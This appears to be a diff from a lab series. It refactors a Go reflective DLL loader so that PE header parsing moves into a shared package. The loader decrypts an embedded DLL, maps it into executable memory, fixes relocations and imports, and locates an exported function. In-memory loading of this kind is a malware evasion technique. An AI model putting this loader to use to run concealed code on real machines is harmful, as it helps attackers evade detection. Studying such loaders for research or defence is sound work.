@@ -4,8 +4,6 @@
 package main
 
 import (
-	"bytes"
-	"encoding/binary"
 	"errors"
 	"fmt"
 	"log"
@@ -15,95 +13,21 @@ import (
 	"unsafe"
 
 	"golang.org/x/sys/windows"
+
+	"reflective/pe"
 )
 
-// --- Existing PE Structures ---
-type IMAGE_DOS_HEADER struct {
-	Magic  uint16
-	_      [58]byte
-	Lfanew int32
-} //nolint:revive
-type IMAGE_FILE_HEADER struct {
-	Machine              uint16
-	NumberOfSections     uint16
-	TimeDateStamp        uint32
-	PointerToSymbolTable uint32
-	NumberOfSymbols      uint32
-	SizeOfOptionalHeader uint16
-	Characteristics      uint16
-}                                                               //nolint:revive
-type IMAGE_DATA_DIRECTORY struct{ VirtualAddress, Size uint32 } //nolint:revive
-type IMAGE_OPTIONAL_HEADER64 struct {
-	Magic                       uint16
-	MajorLinkerVersion          uint8
-	MinorLinkerVersion          uint8
-	SizeOfCode                  uint32
-	SizeOfInitializedData       uint32
-	SizeOfUninitializedData     uint32
-	AddressOfEntryPoint         uint32
-	BaseOfCode                  uint32
-	ImageBase                   uint64
-	SectionAlignment            uint32
-	FileAlignment               uint32
-	MajorOperatingSystemVersion uint16
-	MinorOperatingSystemVersion uint16
-	MajorImageVersion           uint16
-	MinorImageVersion           uint16
-	MajorSubsystemVersion       uint16
-	MinorSubsystemVersion       uint16
-	Win32VersionValue           uint32
-	SizeOfImage                 uint32
-	SizeOfHeaders               uint32
-	CheckSum                    uint32
-	Subsystem                   uint16
-	DllCharacteristics          uint16
-	SizeOfStackReserve          uint64
-	SizeOfStackCommit           uint64
-	SizeOfHeapReserve           uint64
-	SizeOfHeapCommit            uint64
-	LoaderFlags                 uint32
-	NumberOfRvaAndSizes         uint32
-	DataDirectory               [16]IMAGE_DATA_DIRECTORY
-} //nolint:revive
-type IMAGE_SECTION_HEADER struct {
-	Name                                                                                                     [8]byte
-	VirtualSize, VirtualAddress, SizeOfRawData, PointerToRawData, PointerToRelocations, PointerToLinenumbers uint32
-	NumberOfRelocations, NumberOfLinenumbers                                                                 uint16
-	Characteristics                                                                                          uint32
-}                                                                                                                 //nolint:revive
-type IMAGE_BASE_RELOCATION struct{ VirtualAddress, SizeOfBlock uint32 }                                           //nolint:revive
-type IMAGE_IMPORT_DESCRIPTOR struct{ OriginalFirstThunk, TimeDateStamp, ForwarderChain, Name, FirstThunk uint32 } //nolint:revive
-
-type IMAGE_EXPORT_DIRECTORY struct { //nolint:revive // Windows struct
-	Characteristics       uint32
-	TimeDateStamp         uint32
-	MajorVersion          uint16
-	MinorVersion          uint16
-	Name                  uint32 // RVA of the DLL name string
-	Base                  uint32 // Starting ordinal number
-	NumberOfFunctions     uint32 // Total number of exported functions (Size of EAT)
-	NumberOfNames         uint32 // Number of functions exported by name (Size of ENPT & EOT)
-	AddressOfFunctions    uint32 // RVA of the Export Address Table (EAT)
-	AddressOfNames        uint32 // RVA of the Export Name Pointer Table (ENPT)
-	AddressOfNameOrdinals uint32 // RVA of the Export Ordinal Table (EOT)
-}
+// --- PE Structures ---
+// Shared with the other labs through the reflective/pe package.
 
 // --- Constants ---
 const (
-	IMAGE_DIRECTORY_ENTRY_EXPORT    = 0
-	DLL_PROCESS_ATTACH              = 1
-	IMAGE_DOS_SIGNATURE             = 0x5A4D
-	IMAGE_NT_SIGNATURE              = 0x00004550
-	IMAGE_DIRECTORY_ENTRY_BASERELOC = 5
-	IMAGE_DIRECTORY_ENTRY_IMPORT    = 1
-	IMAGE_REL_BASED_DIR64           = 10
-	IMAGE_REL_BASED_ABSOLUTE        = 0
-	IMAGE_ORDINAL_FLAG64            = uintptr(1) << 63
-	MEM_COMMIT                      = 0x00001000
-	MEM_RESERVE                     = 0x00002000
-	MEM_RELEASE                     = 0x8000
-	PAGE_READWRITE                  = 0x04
-	PAGE_EXECUTE_READWRITE          = 0x40
+	DLL_PROCESS_ATTACH     = 1
+	MEM_COMMIT             = 0x00001000
+	MEM_RESERVE            = 0x00002000
+	MEM_RELEASE            = 0x8000
+	PAGE_READWRITE         = 0x04
+	PAGE_EXECUTE_READWRITE = 0x40
 )
 
 // --- Global Proc Address Loader ---
@@ -112,41 +36,6 @@ var (
 	procGetProcAddress = kernel32DLL.NewProc("GetProcAddress")
 )
 
-// --- Helper Functions ---
-func sectionNameToString(nameBytes [8]byte) string {
-	n := bytes.IndexByte(nameBytes[:], 0)
-	if n == -1 {
-		n = 8
-	}
-	return string(nameBytes[:n])
-}
-func machineTypeToString(machine uint16) string {
-	switch machine {
-	case 0x0:
-		return "Unknown"
-	case 0x14c:
-		return "x86 (I386)"
-	case 0x8664:
-		return "x64 (AMD64)"
-	case 0xaa64:
-		return "ARM64"
-	case 0x1c0:
-		return "ARM"
-	default:
-		return "Other"
-	}
-}
-func magicTypeToString(magic uint16) string {
-	switch magic {
-	case 0x10b:
-		return "PE32 (32-bit)"
-	case 0x20b:
-		return "PE32+ (64-bit)"
-	default:
-		return "Unknown/Invalid"
-	}
-}
-
 // --- Main Function ---
 func main() {
 	// Ensure running on Windows
@@ -175,35 +64,19 @@ func main() {
 	fmt.Printf("[+] Decryption complete. Resulting size: %d bytes.\n", len(dllBytes))
 	// --- *** END DECRYPTION STEP *** ---
 
-	reader := bytes.NewReader(dllBytes)
-	var dosHeader IMAGE_DOS_HEADER
-	if err := binary.Read(reader, binary.LittleEndian, &dosHeader); err != nil {
-		log.Fatalf("[-] Failed to read DOS header: %v\n", err)
-	}
-	if dosHeader.Magic != IMAGE_DOS_SIGNATURE {
-		log.Fatalf("[-] Invalid DOS signature")
-	}
-	if _, err := reader.Seek(int64(dosHeader.Lfanew), 0); err != nil {
-		log.Fatalf("[-] Failed to seek to NT Headers: %v\n", err)
-	}
-	var peSignature uint32
-	if err := binary.Read(reader, binary.LittleEndian, &peSignature); err != nil {
-		log.Fatalf("[-] Failed to read PE signature: %v\n", err)
-	}
-	if peSignature != IMAGE_NT_SIGNATURE {
-		log.Fatalf("[-] Invalid PE signature")
-	}
-	var fileHeader IMAGE_FILE_HEADER
-	if err := binary.Read(reader, binary.LittleEndian, &fileHeader); err != nil {
-		log.Fatalf("[-] Failed to read File Header: %v\n", err)
+	peFile, err := pe.Parse(dllBytes)
+	if err != nil {
+		log.Fatalf("[-] Failed to parse PE headers: %v\n", err)
 	}
-	var optionalHeader IMAGE_OPTIONAL_HEADER64
-	if err := binary.Read(reader, binary.LittleEndian, &optionalHeader); err != nil {
-		log.Fatalf("[-] Failed to read Optional Header: %v\n", err)
+	dosHeader := peFile.DosHeader
+	fileHeader := peFile.FileHeader
+	if !peFile.Is64() {
+		log.Fatalf("[-] This loader only maps PE32+ (64-bit) DLLs, got %s.\n", pe.MagicTypeToString(peFile.Magic()))
 	}
-	if optionalHeader.Magic != 0x20b {
-		log.Printf("[!] Warning: Optional Header Magic is not PE32+ (0x20b).")
+	if warning := peFile.CFGWarning(); warning != "" {
+		log.Printf("[!] Warning: %s.\n", warning)
 	}
+	optionalHeader := peFile.OptionalHeader64
 	fmt.Println("[+] Parsed PE Headers successfully.")
 	fmt.Printf("[+] Target ImageBase: 0x%X\n", optionalHeader.ImageBase)
 	fmt.Printf("[+] Target SizeOfImage: 0x%X (%d bytes)\n", optionalHeader.SizeOfImage, optionalHeader.SizeOfImage)
@@ -245,29 +118,29 @@ func main() {
 	// --- Step 4: Copy Sections into Allocated Memory ---
 	fmt.Println("[+] Copying sections...")
 	firstSectionHeaderAddr := allocBase + uintptr(dosHeader.Lfanew) + 4 + unsafe.Sizeof(fileHeader) + uintptr(fileHeader.SizeOfOptionalHeader) // Address of first section header IN allocBase
-	sectionHeaderSize := unsafe.Sizeof(IMAGE_SECTION_HEADER{})
+	sectionHeaderSize := unsafe.Sizeof(pe.IMAGE_SECTION_HEADER{})
 	numSections := fileHeader.NumberOfSections
 	for i := uint16(0); i < numSections; i++ {
 		currentSectionHeaderAddr := firstSectionHeaderAddr + uintptr(i)*sectionHeaderSize
-		sectionHeader := (*IMAGE_SECTION_HEADER)(unsafe.Pointer(currentSectionHeaderAddr))
-		// sectionName := sectionNameToString(sectionHeader.Name) // Less verbose logging
+		sectionHeader := (*pe.IMAGE_SECTION_HEADER)(unsafe.Pointer(currentSectionHeaderAddr))
+		// sectionName := pe.SectionNameToString(sectionHeader.Name) // Less verbose logging
 		if sectionHeader.SizeOfRawData == 0 {
 			continue
 		}
 		if uintptr(sectionHeader.PointerToRawData)+uintptr(sectionHeader.SizeOfRawData) > uintptr(len(dllBytes)) {
-			log.Printf("[!] Warning: Section %d ('%s') raw data exceeds file size. Skipping copy.", i, sectionNameToString(sectionHeader.Name))
+			log.Printf("[!] Warning: Section %d ('%s') raw data exceeds file size. Skipping copy.", i, pe.SectionNameToString(sectionHeader.Name))
 			continue
 		}
 		sourceAddr := dllBytesPtr + uintptr(sectionHeader.PointerToRawData)
 		if uintptr(sectionHeader.VirtualAddress)+uintptr(sectionHeader.SizeOfRawData) > allocSize {
-			log.Printf("[!] Warning: Section %d ('%s') virtual address/size exceeds allocated size. Skipping copy.", i, sectionNameToString(sectionHeader.Name))
+			log.Printf("[!] Warning: Section %d ('%s') virtual address/size exceeds allocated size. Skipping copy.", i, pe.SectionNameToString(sectionHeader.Name))
 			continue
 		}
 		destAddr := allocBase + uintptr(sectionHeader.VirtualAddress)
 		sizeToCopy := uintptr(sectionHeader.SizeOfRawData)
 		err = windows.WriteProcessMemory(windows.CurrentProcess(), destAddr, (*byte)(unsafe.Pointer(sourceAddr)), sizeToCopy, &bytesWritten)
 		if err != nil || bytesWritten != sizeToCopy {
-			log.Fatalf("    [-] Failed to copy section '%s': %v (Bytes written: %d)", sectionNameToString(sectionHeader.Name), err, bytesWritten)
+			log.Fatalf("    [-] Failed to copy section '%s': %v (Bytes written: %d)", pe.SectionNameToString(sectionHeader.Name), err, bytesWritten)
 		}
 	}
 	fmt.Println("[+] All sections copied.")
@@ -279,7 +152,7 @@ func main() {
 		fmt.Println("[+] Image loaded at preferred base. No relocations needed.")
 	} else {
 		fmt.Printf("[+] Image loaded at non-preferred base (Delta: 0x%X). Processing relocations...\n", delta)
-		relocDirEntry := optionalHeader.DataDirectory[IMAGE_DIRECTORY_ENTRY_BASERELOC]
+		relocDirEntry := optionalHeader.DataDirectory[pe.IMAGE_DIRECTORY_ENTRY_BASERELOC]
 		relocDirRVA := relocDirEntry.VirtualAddress
 		relocDirSize := relocDirEntry.Size
 		if relocDirRVA == 0 || relocDirSize == 0 {
@@ -291,20 +164,20 @@ func main() {
 			currentBlockAddr := relocTableBase
 			totalFixups := 0
 			for currentBlockAddr < relocTableEnd {
-				if currentBlockAddr < allocBase || currentBlockAddr+unsafe.Sizeof(IMAGE_BASE_RELOCATION{}) > allocBase+allocSize {
+				if currentBlockAddr < allocBase || currentBlockAddr+unsafe.Sizeof(pe.IMAGE_BASE_RELOCATION{}) > allocBase+allocSize {
 					log.Printf("[!] Error: Relocation block address 0x%X is outside allocated range. Stopping relocations.", currentBlockAddr)
 					break
 				}
-				blockHeader := (*IMAGE_BASE_RELOCATION)(unsafe.Pointer(currentBlockAddr))
-				if blockHeader.VirtualAddress == 0 || blockHeader.SizeOfBlock <= uint32(unsafe.Sizeof(IMAGE_BASE_RELOCATION{})) {
+				blockHeader := (*pe.IMAGE_BASE_RELOCATION)(unsafe.Pointer(currentBlockAddr))
+				if blockHeader.VirtualAddress == 0 || blockHeader.SizeOfBlock <= uint32(unsafe.Sizeof(pe.IMAGE_BASE_RELOCATION{})) {
 					break
 				}
 				if currentBlockAddr+uintptr(blockHeader.SizeOfBlock) > relocTableEnd {
 					log.Printf("[!] Error: Relocation block size (%d) at 0x%X exceeds directory bounds. Stopping relocations.", blockHeader.SizeOfBlock, currentBlockAddr)
 					break
 				}
-				numEntries := (blockHeader.SizeOfBlock - uint32(unsafe.Sizeof(IMAGE_BASE_RELOCATION{}))) / 2
-				entryPtr := currentBlockAddr + unsafe.Sizeof(IMAGE_BASE_RELOCATION{})
+				numEntries := (blockHeader.SizeOfBlock - uint32(unsafe.Sizeof(pe.IMAGE_BASE_RELOCATION{}))) / 2
+				entryPtr := currentBlockAddr + unsafe.Sizeof(pe.IMAGE_BASE_RELOCATION{})
 				for i := uint32(0); i < numEntries; i++ {
 					entryAddr := entryPtr + uintptr(i*2)
 					if entryAddr < allocBase || entryAddr+2 > allocBase+allocSize {
@@ -314,7 +187,7 @@ func main() {
 					entry := *(*uint16)(unsafe.Pointer(entryAddr))
 					relocType := entry >> 12
 					offset := entry & 0xFFF
-					if relocType == IMAGE_REL_BASED_DIR64 {
+					if relocType == pe.IMAGE_REL_BASED_DIR64 {
 						patchAddr := allocBase + uintptr(blockHeader.VirtualAddress) + uintptr(offset)
 						if patchAddr < allocBase || patchAddr+8 > allocBase+allocSize {
 							log.Printf("        [!] Error: Relocation patch address 0x%X is outside allocated range. Skipping fixup.", patchAddr)
@@ -323,7 +196,7 @@ func main() {
 						originalValuePtr := (*uint64)(unsafe.Pointer(patchAddr))
 						*originalValuePtr = uint64(int64(*originalValuePtr) + delta)
 						totalFixups++
-					} else if relocType != IMAGE_REL_BASED_ABSOLUTE {
+					} else if relocType != pe.IMAGE_REL_BASED_ABSOLUTE {
 						fmt.Printf("        [!] Warning: Skipping unhandled relocation type %d at offset 0x%X\n", relocType, offset)
 					}
 				}
@@ -336,13 +209,13 @@ func main() {
 
 	// --- Step 6: Process Import Address Table (IAT) ---
 	fmt.Println("[+] Processing Import Address Table (IAT)...")
-	importDirEntry := optionalHeader.DataDirectory[IMAGE_DIRECTORY_ENTRY_IMPORT]
+	importDirEntry := optionalHeader.DataDirectory[pe.IMAGE_DIRECTORY_ENTRY_IMPORT]
 	importDirRVA := importDirEntry.VirtualAddress
 	if importDirRVA == 0 {
 		fmt.Println("[*] No Import Directory found. Skipping IAT processing.")
 	} else {
 		fmt.Printf("[+] Import Directory found at RVA 0x%X\n", importDirRVA)
-		importDescSize := unsafe.Sizeof(IMAGE_IMPORT_DESCRIPTOR{})
+		importDescSize := unsafe.Sizeof(pe.IMAGE_IMPORT_DESCRIPTOR{})
 		importDescBase := allocBase + uintptr(importDirRVA)
 		importCount := 0
 		// fmt.Printf("    DEBUG: Import Directory VA: 0x%X\n", importDescBase)
@@ -352,12 +225,12 @@ func main() {
 		// 	log.Printf("    [-] Error: Calculated Import Directory VA 0x%X is outside allocated range [0x%X - 0x%X]. Cannot read first descriptor.",
 		// 		importDescBase, allocBase, allocBase+allocSize-1)
 		// } else {
-		// 	firstDesc := (*IMAGE_IMPORT_DESCRIPTOR)(unsafe.Pointer(importDescBase))
+		// 	firstDesc := (*pe.IMAGE_IMPORT_DESCRIPTOR)(unsafe.Pointer(importDescBase))
 		// 	fmt.Printf("    DEBUG: First Descriptor Raw Values: OFT=0x%X, TS=0x%X, FC=0x%X, NameRVA=0x%X, FT=0x%X\n",
 		// 		firstDesc.OriginalFirstThunk, firstDesc.TimeDateStamp, firstDesc.ForwarderChain, firstDesc.Name, firstDesc.FirstThunk)
 		// }
 
-		// Iterate through IMAGE_IMPORT_DESCRIPTOR array (null terminated)
+		// Iterate through pe.IMAGE_IMPORT_DESCRIPTOR array (null terminated)
 		for i := 0; ; i++ {
 			currentDescAddr := importDescBase + uintptr(i)*importDescSize
 			if currentDescAddr < allocBase || currentDescAddr+importDescSize > allocBase+allocSize {
@@ -365,7 +238,7 @@ func main() {
 				break
 			}
 			// fmt.Printf("\n    DEBUG: Reading descriptor %d at address 0x%X\n", i, currentDescAddr) // Keep DEBUG optional
-			importDesc := (*IMAGE_IMPORT_DESCRIPTOR)(unsafe.Pointer(currentDescAddr))
+			importDesc := (*pe.IMAGE_IMPORT_DESCRIPTOR)(unsafe.Pointer(currentDescAddr))
 			// fmt.Printf("        DEBUG: Desc %d: OFT=0x%X, TS=0x%X, FC=0x%X, NameRVA=0x%X, FT=0x%X\n", i, importDesc.OriginalFirstThunk, importDesc.TimeDateStamp, importDesc.ForwarderChain, importDesc.Name, importDesc.FirstThunk) // Keep DEBUG optional
 
 			if importDesc.OriginalFirstThunk == 0 && importDesc.FirstThunk == 0 { /* fmt.Printf("    DEBUG: Null descriptor found at index %d. Stopping.\n", i); */
@@ -426,7 +299,7 @@ func main() {
 				var procErr error
 				importNameStr := ""
 
-				if iltEntry&IMAGE_ORDINAL_FLAG64 != 0 {
+				if iltEntry&pe.IMAGE_ORDINAL_FLAG64 != 0 {
 					ordinal := uint16(iltEntry & 0xFFFF)
 					importNameStr = fmt.Sprintf("Ordinal %d", ordinal)
 					// fmt.Printf("            DEBUG: Importing by %s\n", importNameStr)
@@ -523,7 +396,7 @@ func main() {
 	var targetFuncAddr uintptr = 0 // Initialize to 0 (not found)
 
 	// Find the Export Directory entry
-	exportDirEntry := optionalHeader.DataDirectory[IMAGE_DIRECTORY_ENTRY_EXPORT]
+	exportDirEntry := optionalHeader.DataDirectory[pe.IMAGE_DIRECTORY_ENTRY_EXPORT]
 	exportDirRVA := exportDirEntry.VirtualAddress
 	// exportDirSize := exportDirEntry.Size // Size might be useful for boundary checks
 
@@ -532,8 +405,8 @@ func main() {
 		// Depending on requirements, might be fatal or just skip this step
 	} else {
 		fmt.Printf("[+] Export Directory found at RVA 0x%X\n", exportDirRVA)
-		exportDirBase := allocBase + uintptr(exportDirRVA) // VA of IMAGE_EXPORT_DIRECTORY
-		exportDir := (*IMAGE_EXPORT_DIRECTORY)(unsafe.Pointer(exportDirBase))
+		exportDirBase := allocBase + uintptr(exportDirRVA) // VA of pe.IMAGE_EXPORT_DIRECTORY
+		exportDir := (*pe.IMAGE_EXPORT_DIRECTORY)(unsafe.Pointer(exportDirBase))
 
 		// Calculate the absolute addresses of the EAT, ENPT, and EOT
 		eatBase := allocBase + uintptr(exportDir.AddressOfFunctions)    // Export Address Table VA